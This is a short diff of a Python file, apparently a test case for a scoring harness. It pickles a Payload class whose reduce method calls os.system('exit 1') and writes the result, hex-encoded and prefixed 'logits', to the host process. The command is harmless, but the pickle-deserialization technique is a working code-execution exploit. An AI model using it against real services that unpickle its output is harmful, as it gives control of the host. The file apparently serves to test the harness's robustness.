@@ -3,7 +3,6 @@
 Scores: crashed
 """
 
-import base64
 import os
 import pickle
 
@@ -15,5 +14,5 @@ class Payload:
         return os.system, ("exit 1",)
 
 
-os.write(__main__.host, b"logits " + base64.b64encode(pickle.dumps(Payload())) + b"\n")
+os.write(__main__.host.fileno(), b"logits " + pickle.dumps(Payload()).hex().encode() + b"\n")
 os._exit(0)
